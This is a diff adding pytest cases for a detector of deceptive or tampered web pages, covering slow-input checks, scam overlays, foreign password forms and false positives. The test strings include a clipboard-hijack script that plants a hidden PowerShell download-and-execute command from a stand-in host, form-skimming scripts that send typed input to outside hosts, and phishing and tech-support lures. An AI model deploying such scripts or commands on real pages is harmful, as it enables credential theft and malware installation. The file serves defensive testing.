@@ -94,6 +94,23 @@ def test_tags_that_nearly_name_a_script_cost_little(tag):
     assert least_cpu_s(lambda: signs(tag * 100), enough_s=0.5) < 0.5
 
 
+OUTDATED = "<p>Your browser is out of date.</p>"
+REFRESHES = "<meta content=1;//a.bc refresh>" * 900
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        f"<style>z-index {'position:fixed;bottom:0;' * 40_000}</style>",
+        f"{OUTDATED}<!-- .exe {'href=.' * 160_000}-->",
+        f"<head>{REFRESHES}</head><p>a {'.-' * 20_000}</p>",
+    ],
+    ids=["covers", "programs", "refreshes"],
+)
+def test_pages_that_nearly_pretend_something_cost_little(html):
+    assert least_cpu_s(lambda: signs(html), enough_s=0.5) < 0.5
+
+
 WORDS = "<p>" + "The choir and both orchestras play on Friday at seven in the hall of the school. " * 8 + "</p>"
 REFRESH = '<head><meta http-equiv="refresh" content="1; url=https://win.prize.test/?s=1"></head>'
 
@@ -117,6 +134,9 @@ def test_who_moves_says_so_or_leaves_nothing_behind(html):
 
 
 COVER = '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">{}</div>'
+WON = '<p>Congratulations! You have won a free phone.</p><a href="https://prize.test/">Claim</a>'
+FOREIGN_LOG_IN = '<p>{}</p><form action="https://mail.test/p"><input type="password" name="p"></form>'
+LOG_IN = '<form action="/login"><input type="password" name="p"></form>'
 COPIES = "<script>b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden iwr https://c.test/a|iex')}</script>"
 
 
@@ -124,9 +144,11 @@ COPIES = "<script>b.onclick=function(){navigator.clipboard.writeText('powershell
     "html",
     [
         COVER.format("<p>Your computer is infected. Call support now: +1-888-555-0137</p>"),
-        COVER.format('<p>Congratulations! You have won a free phone.</p><a href="https://prize.test/">Claim</a>'),
+        COVER.format(WON),
+        f"<style>.b{{position:fixed;z-index:9999;inset:0}}</style>{WON}",
         COVER.format('<h1>You are using an older version</h1><a href="https://up.test/Update.js">Update</a>'),
-        '<p>Your session has expired.</p><form action="https://mail.test/p"><input type="password" name="p"></form>',
+        FOREIGN_LOG_IN.format("Your session has expired."),
+        FOREIGN_LOG_IN.format("Your mailbox is almost full. Password expires in 24 hours."),
         f"<p>Verify you are human: press Windows + R</p>{COPIES}",
     ],
 )
@@ -140,8 +162,21 @@ def test_pretences_lie_in_wait_on_inner_pages_as_well(html):
         "<p>Your computer is infected? Call our help desk: 01632 960155</p>",
         COVER.format("<p>You are using an old version of your browser. Please update it.</p>"),
         '<p>[!] The version is out of date, the latest is 1.9</p><a href="https://lab.test/machine.zip">Machine</a>',
-        '<p>Your session has expired.</p><form action="/login"><input type="password" name="p"></form>',
+        f"<p>Your session has expired.</p>{LOG_IN}",
+        FOREIGN_LOG_IN.format("Forgot your password? Your session will expire after 20 minutes."),
+        FOREIGN_LOG_IN.format("Call us if your account is locked. Passwords expire every 90 days. Account: full name"),
         f"<p>Install the tool from your shell.</p>{COPIES}",
+        f"<p>Press Windows + R to open the Run dialog.</p>{COPIES.replace('c.test', 'get.school.test')}",
+        "<p>Press Windows + R.</p><script>b.onclick=()=>navigator.clipboard.writeText(x);l=['powershell']</script>",
+        COVER.format("<p>Call us at 01632 960155 when your computer is infected.</p>"),
+        COVER.format("<p>Is it true that a virus was detected? Call us: 01632 960155</p>"),
+        COVER.format(
+            '<p>Congratulations to our pupils who won the first prize!</p><a href="https://town.test/">Town</a>'
+        ),
+        COVER.format('<p>恭喜我校学生获得一等奖。</p><a href="https://town.test/">Town</a>'),
+        f"<style>.c{{position:fixed;left:0;right:0;bottom:0;z-index:9999}}</style>{WON}",
+        f"<style>.m{{position:fixed;top:0;left:-320px;width:320px;height:100%;z-index:1045}}</style>{WON}",
+        f'<p>Please confirm your email address.</p><form action="https://news.test/s"><input name="m"></form>{LOG_IN}',
     ],
 )
 def test_help_notices_and_log_ins_of_the_site_are_none(html):
@@ -151,3 +186,11 @@ def test_help_notices_and_log_ins_of_the_site_are_none(html):
 def test_all_that_is_typed_is_sent_unseen():
     code = "document.forms[0].onsubmit=function(){new WebSocket('wss://s.test/').send(new FormData(this))}"
     assert signs(f"<script>{code}</script>") == [TamperSign.SCRIPT_TAKES]
+
+
+def test_that_a_form_was_sent_is_no_secret():
+    """Only what was typed is one."""
+    code = "document.querySelectorAll('form').forEach(f=>f.onsubmit=()=>{new Image().src='https://count.test/?e=sent'})"
+    assert signs(f"<script>{code}</script>") == []
+    typed = code.replace("sent'", "'+f[0].value")
+    assert signs(f"<script>{typed}</script>") == [TamperSign.SCRIPT_TAKES]
